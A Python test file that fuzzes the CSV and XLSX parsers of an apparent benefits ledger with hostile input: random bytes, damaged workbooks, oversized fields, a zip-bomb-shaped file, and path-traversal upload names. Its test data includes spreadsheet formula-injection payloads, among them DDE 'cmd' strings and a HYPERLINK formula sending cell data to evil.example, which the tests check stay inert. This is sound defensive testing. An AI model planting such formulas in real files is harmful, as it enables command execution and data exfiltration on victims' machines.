"""Hostile files against every parser: each case ends in a clean, specific error (RowError
list, RejectedFile, DomainError) or a correct load; never a crash, a hang or a partial
write. Hypothesis generates the bytes; a hard timer (SIGALRM) turns a hang into a failure.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from api import files
from api.loader import load_directory
from api.wiring import Store
from domain import catalogue
from domain.errors import DomainError, RejectedFile
from domain.ledger import check_row_types

PARSE_SECONDS_MAX = 20  # a hang is a failure, not a slow test
EXAMPLES = int(os.environ.get("AIDLEDGER_HARDENING_EXAMPLES", "100"))
HOUSEHOLDS_HEADER = ("household_id,township,village,head_name,head_id_number,members,"
                     "bank_account,account_holder,disclosure_exempt")
GOOD_HOUSEHOLD = "QX000001,东山街道,柳树村,丁超,430524194104180939,3,6228158608283008259,丁超,"
FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "\t=1+1",
            "\r=1+1")
FUZZ = settings(max_examples=EXAMPLES, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


class Hang(Exception):
    """The parser did not finish within PARSE_SECONDS_MAX."""


@contextmanager
def time_limit(seconds: float = PARSE_SECONDS_MAX) -> Iterator[None]:
    def fire(signum: int, frame: object) -> None:
        raise Hang(f"no answer within {seconds} s")

    previous = signal.signal(signal.SIGALRM, fire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def parse_bytes(name: str, raw: bytes, kind: str | None = None) -> files.ParsedFile:
    """Write ``raw`` as ``name`` in a fresh folder and parse it, under the time limit."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.write_bytes(raw)
        with time_limit():
            return files.parse_file(path, kind=kind)


def assert_clean_outcome(parsed: files.ParsedFile) -> None:
    """Either specific problems, or rows that are exactly the kind's typed columns."""
    assert all(isinstance(e, files.RowError) and str(e) for e in parsed.errors)
    assert len(parsed.errors) <= files.MAX_ERRORS_LISTED + 1
    if parsed.errors:
        return
    assert len(parsed.rows) == len(parsed.row_numbers)
    for row in parsed.rows:
        check_row_types(parsed.kind, row)
        for column in catalogue.columns(parsed.kind):
            if column.value_required(row):
                assert row[column.name] not in (None, ""), (column.name, row)


KINDS = st.sampled_from(sorted(catalogue.names()))


@FUZZ
@given(kind=KINDS, raw=st.binary(max_size=4096))
def test_random_bytes_as_any_csv_end_in_errors_or_a_correct_parse(kind: str, raw: bytes) -> None:
    assert_clean_outcome(parse_bytes(f"{kind}.csv", raw))


@FUZZ
@given(kind=KINDS, raw=st.binary(max_size=4096))
def test_random_bytes_as_any_xlsx_end_in_errors(kind: str, raw: bytes) -> None:
    parsed = parse_bytes(f"{kind}.xlsx", raw)
    assert parsed.errors, "random bytes are never a workbook"
    assert_clean_outcome(parsed)


def _workbook(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


GOOD_XLSX = _workbook([HOUSEHOLDS_HEADER.split(","), GOOD_HOUSEHOLD.split(",")])


@FUZZ
@given(flips=st.lists(st.tuples(st.integers(0, len(GOOD_XLSX) - 1), st.integers(0, 255)),
                      min_size=1, max_size=8))
def test_a_damaged_xlsx_ends_in_errors_or_a_correct_parse(flips: list[tuple[int, int]]) -> None:
    raw = bytearray(GOOD_XLSX)
    for offset, value in flips:
        raw[offset] = value
    assert_clean_outcome(parse_bytes("households.xlsx", bytes(raw)))


CELL_TEXT = st.one_of(st.text(max_size=200), st.sampled_from(FORMULAS),
                      st.text(alphabet=st.characters(codec="utf-8"), max_size=50))


@FUZZ
@given(cells=st.lists(st.lists(CELL_TEXT, min_size=0, max_size=12), max_size=20),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "utf-32",
                                 "latin-1", "shift_jis", "big5"]))
def test_any_cells_in_any_encoding_end_in_errors_or_a_correct_parse(
        cells: list[list[str]], encoding: str) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HOUSEHOLDS_HEADER.split(","))
    writer.writerows(cells)
    raw = buffer.getvalue().encode(encoding, errors="replace")
    assert_clean_outcome(parse_bytes("households.csv", raw))


@FUZZ
@given(cells=st.lists(st.lists(st.one_of(CELL_TEXT, st.integers(), st.floats(),
                                         st.dates(), st.booleans(), st.none()),
                               max_size=10), max_size=15))
def test_any_cells_in_a_workbook_end_in_errors_or_a_correct_parse(
        cells: list[list[object]]) -> None:
    rows: list[list[object]] = [HOUSEHOLDS_HEADER.split(",")]
    rows += [[_xlsx_safe(c) for c in row] for row in cells]
    assert_clean_outcome(parse_bytes("households.xlsx", _workbook(rows)))


def _xlsx_safe(value: object) -> object:
    """openpyxl refuses control characters in cells; a real workbook cannot hold them."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def test_a_csv_with_ten_thousand_columns_is_parsed_or_refused_quickly() -> None:
    header = HOUSEHOLDS_HEADER + "," + ",".join(f"extra{n}" for n in range(10_000))
    row = GOOD_HOUSEHOLD + "," + ",".join("x" * 10 for _ in range(10_000))
    parsed = parse_bytes("households.csv", f"{header}\n{row}\n".encode())
    assert_clean_outcome(parsed)
    assert [r["household_id"] for r in parsed.rows] == ["QX000001"]


def test_a_cell_beyond_the_csv_field_limit_is_a_row_error_not_a_crash() -> None:
    huge = "丁" * 200_000
    parsed = parse_bytes("households.csv",
                         f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD.replace('丁超', huge)}\n".encode())
    assert_clean_outcome(parsed)
    assert any("field larger than field limit" in e.reason for e in parsed.errors)


def test_a_huge_row_of_many_lines_is_parsed_within_the_time_limit() -> None:
    body = "\n".join(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}") for n in range(50_000))
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{body}\n".encode())
    assert parsed.ok and len(parsed.rows) == 50_000


def test_rows_beyond_max_rows_reject_the_file_naming_the_limit(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "MAX_ROWS", 3)
    body = "\n".join(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}") for n in range(5))
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{body}\n".encode())
    assert any("more than 3 rows" in e.reason for e in parsed.errors)


def test_a_file_beyond_max_file_bytes_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "MAX_FILE_BYTES", 100)
    raw = f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD}\n".encode()
    parsed = parse_bytes("households.csv", raw)
    assert [e.reason for e in parsed.errors] == [f"file too large: {len(raw)} bytes (limit 100)"]


@pytest.mark.parametrize("payload", FORMULAS[:5])
def test_a_formula_in_a_text_cell_is_kept_as_inert_text(payload: str) -> None:
    line = GOOD_HOUSEHOLD.replace("丁超,430", f'"{payload.replace(chr(34), chr(34) * 2)}",430')
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{line}\n".encode())
    assert parsed.ok, parsed.errors
    assert parsed.rows[0]["head_name"] == payload


def test_a_formula_in_an_amount_cell_is_a_row_error() -> None:
    text = ("household_id,program,monthly_amount,start_period,exit_period,gradual_exit_until\n"
            "QX000001,dibao,=1+1,2025-01,,\n")
    parsed = parse_bytes("enrolments.csv", text.encode())
    assert [(e.row, e.column) for e in parsed.errors] == [(2, "monthly_amount")]


def test_an_xlsx_formula_without_a_cached_value_is_an_empty_cell_not_code() -> None:
    raw = _workbook([HOUSEHOLDS_HEADER.split(","),
                     ["QX000001", "东山街道", "柳树村", "=cmd|' /C calc'!A0",
                      "430524194104180939", "=1+2", "6228158608283008259", "丁超", ""]])
    parsed = parse_bytes("households.xlsx", raw)
    assert {(e.column, e.reason) for e in parsed.errors} == {
        ("head_name", "required value is empty"), ("members", "required value is empty")}


def test_a_zip_bomb_shaped_xlsx_is_refused_as_unreadable() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<" * 5_000_000)
    parsed = parse_bytes("households.xlsx", out.getvalue())
    assert parsed.errors and "not a readable XLSX workbook" in parsed.errors[0].reason


# -- file names --------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["../households.csv", "/etc/households.csv",
                                  "..\\..\\households.csv", "households.csv/../x.csv"])
def test_path_tricks_in_a_file_name_name_only_the_last_part(name: str) -> None:
    from starlette.datastructures import UploadFile

    from api.routers.imports import upload_name

    chosen = upload_name(UploadFile(io.BytesIO(b""), filename=name), "households")
    assert "/" not in chosen and chosen not in ("", ".", "..")


@pytest.mark.parametrize("name", ["households\x00.csv", "..", "", "a\r\n.csv", "x" * 300 + ".csv",
                                  "households.csv\x00.txt"])
def test_an_upload_name_with_control_characters_or_nothing_usable_is_refused(name: str) -> None:
    from starlette.datastructures import UploadFile

    from api.routers.imports import upload_name

    with pytest.raises(DomainError):
        upload_name(UploadFile(io.BytesIO(b""), filename=name), "households")


def test_kind_of_ignores_folders_and_nul_tricks() -> None:
    assert files.kind_of("households.csv\x00.txt") is None
    assert files.kind_of("../../etc/passwd") is None
    assert files.kind_of("/abs/path/payroll_2025-01.csv") == "payroll"


def test_a_folder_only_loads_regular_files_directly_inside_it(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "households.csv").write_text(f"{HOUSEHOLDS_HEADER}\n", encoding="utf-8")
    (tmp_path / "deaths.csv").mkdir()  # a folder named like a contract file
    assert files.discover(tmp_path) == []


# -- nothing is written when anything is wrong -------------------------------------------
@pytest.fixture(scope="module")
def empty_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    with Store(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'ledger.db'}") as store:
        yield store


@FUZZ
@given(raw=st.binary(max_size=2048), suffix=st.sampled_from([".csv", ".xlsx"]),
       kind=st.sampled_from(["payroll", "bank_return", "enrolments", "reserve"]))
def test_a_folder_with_one_hostile_file_is_rejected_whole_and_writes_nothing(
        empty_store: Store, raw: bytes, suffix: str, kind: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        (folder / "households.csv").write_text(f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD}\n",
                                               encoding="utf-8")
        (folder / f"{kind}_x{suffix}").write_bytes(raw)
        before = empty_store.ledger.recorder.max_notification_id() or 0
        with time_limit(), pytest.raises(RejectedFile) as rejected:
            load_directory(empty_store, folder)
        assert rejected.value.problems
        assert (empty_store.ledger.recorder.max_notification_id() or 0) == before == 0
